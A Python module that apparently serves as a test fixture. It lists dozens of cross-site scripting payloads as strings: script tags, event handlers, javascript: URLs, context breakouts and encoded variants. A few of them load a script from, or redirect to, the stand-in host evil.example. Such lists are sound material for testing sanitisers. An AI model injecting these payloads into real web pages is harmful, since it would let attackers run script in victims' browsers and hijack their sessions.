"""What people who mean harm put where a name, a file or a text is asked for."""

_SCRIPTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<!--<script>alert(1)//--></script>",
)  # fmt: skip
_HANDLERS = (
    "<img src=x onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>", "<object data=x onerror=alert(1)>",
    "<iframe onload=alert(1)>", "<style onload=alert(1)></style>", "<link rel=stylesheet href=x onerror=alert(1)>",
    "<p onpointerover=alert(1)>", "<x onclick=alert(1)>",
)  # fmt: skip
_ADDRESSES = (
    "<a href=javascript:alert(1)>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "https://x.example/\"onmouseover=\"alert(1)", "https://x'><b>",
    "http://[::1]/<i>", "<iframe src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "//evil.example/x",
    "tel:0912.000.118\"><script>alert(1)</script>", "vbscript:alert(1)",
)  # fmt: skip
_OUT_OF_PLACE = (
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onfocus=alert(1) autofocus x=\"",
    "' onfocus=alert(1) autofocus x='", "`-alert(1)-`", "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</template><img src=x onerror=alert(1)>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{ 7*7 }}{% raw %}", "${alert(1)}", "#{alert(1)}", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202e<b>", "\uff1cscript\uff1e",
    "</script>\u2028alert(1)", "*_`[x](javascript:alert(1))`_*",
)  # fmt: skip

PAYLOADS = (*_SCRIPTS, *_HANDLERS, *_ADDRESSES, *_OUT_OF_PLACE)
